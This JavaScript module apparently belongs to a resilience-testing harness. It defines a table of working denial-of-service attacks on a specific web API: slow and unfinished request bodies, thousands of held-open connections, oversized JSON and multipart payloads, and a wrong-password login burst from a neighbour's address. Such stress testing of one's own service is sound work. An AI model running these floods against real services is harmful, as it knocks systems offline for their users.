// The attacks: each takes what is to be attacked, and goes on until its signal.

import { randomUUID } from "node:crypto";

import { hammer, head, keepOpen, send } from "./wire.mjs";

const MIB = 1 << 20;
const LARGEST_RESULTS = 8 * MIB;

const results = (victim) => `/v1/tests/sessions/${victim.sessions[0]}/results`;

/** A request as the merge of it is dear: a thousand operations, each with a list of numbers. */
function dear(victim) {
  const session = victim.sessions[Math.floor(Math.random() * victim.sessions.length)];
  const numbers = Array.from({ length: 90 }, (_, number) => number * 1.5);
  const timestamp = new Date().toISOString();
  const changes = Array.from({ length: 1_000 }, (_, number) => ({
    op: "set", path: `/items/${victim.item}/${randomUUID()}-${number}`, value: numbers, actor_id: "attacker", timestamp,
  }));
  return [`/v1/tests/sessions/${session}/results`, { changes }];
}

const unfinished = (path, announced, sent, options) => (socket) => {
  socket.write(head("POST", path, announced, options));
  socket.write(Buffer.alloc(sent, 0x20));
};

export const ATTACKS = {
  "1,300 unfinished bodies of 1 MiB to a public route": (_, signal, answers) =>
    keepOpen(1_300, signal, unfinished("/v1/auth/login", MIB, MIB - 1), { answers }),

  "the same from the neighbour's own address": (_, signal, answers, neighbour) =>
    keepOpen(1_300, signal, unfinished("/v1/auth/login", MIB, MIB - 1), { answers, address: neighbour.address }),

  "150 results bodies of 8.4 MB without their last byte": (victim, signal, answers) => {
    const begin = unfinished(results(victim), LARGEST_RESULTS, LARGEST_RESULTS - 1, { token: victim.token });
    keepOpen(150, signal, begin, { answers });
  },

  "four connections with 1,000 operations of 90 numbers over 60 sessions": (victim, signal, answers) =>
    hammer(4, signal, () => {
      const [path, body] = dear(victim);
      return send("POST", path, { token: victim.token, body, seconds: 60 });
    }, answers),

  "1,100 results bodies that trickle at 1,000 bytes a second": (victim, signal, answers) => {
    const begin = (socket) => {
      socket.write(head("POST", results(victim), LARGEST_RESULTS, { token: victim.token }));
      return Buffer.alloc(1_000, 0x20);
    };
    keepOpen(1_100, signal, begin, { answers });
  },

  "1,100 small results bodies that trickle at ten bytes a second": (victim, signal, answers) => {
    const begin = (socket) => {
      socket.write(head("POST", results(victim), 10_000, { token: victim.token }));
      return Buffer.alloc(10, 0x20);
    };
    keepOpen(1_100, signal, begin, { answers });
  },

  "4,400 connections that send one byte": (_, signal, answers) =>
    keepOpen(4_400, signal, (socket) => void socket.write("G"), { answers }),

  "4,400 connections that ask once and stay": (_, signal, answers) =>
    keepOpen(4_400, signal, (socket) => void socket.write("GET /health HTTP/1.1\r\nHost: attack\r\n\r\n"), { answers }),

  "52 wrong passwords for made-up addresses from the neighbour's own address": async (_, signal, answers, neighbour) => {
    const made = () => ({ email: `${randomUUID()}@example.com`, password: "not the right one" });
    for (let number = 0; number < 52 && !signal.aborted; number++) {
      const { status } = await send("POST", "/v1/auth/login", { body: made(), address: neighbour.address });
      answers[status] = (answers[status] ?? 0) + 1;
    }
  },

  "16 connections that ask for readiness": (_, signal, answers) =>
    hammer(16, signal, () => send("GET", "/health/ready"), answers),

  "64 connections with 1 MiB of empty objects": (victim, signal, answers) => {
    const body = { site_name: "A", site_address: "B", metadata: { list: Array(340_000).fill({}) } };
    return hammer(64, signal, () => send("POST", "/v1/buildings", { token: victim.token, body }), answers);
  },

  "8 connections with four million numbers in one operation": (victim, signal, answers) => {
    const value = Array(4_000_000).fill(1);
    const path = `/items/${victim.item}/list`;
    const body = { changes: [{ op: "set", path, value, actor_id: "attacker", timestamp: new Date().toISOString() }] };
    return hammer(8, signal, () => send("POST", results(victim), { token: victim.token, body }), answers);
  },

  "200 evidence files without their last byte": (victim, signal, answers) => {
    const type = "multipart/form-data; boundary=x";
    const begin = (socket) => {
      socket.write(head("POST", "/v1/evidence", 20 * MIB, { token: victim.token, type }));
      socket.write('--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n');
      socket.write(Buffer.alloc(900_000, 0x20));
    };
    keepOpen(200, signal, begin, { answers });
  },
};
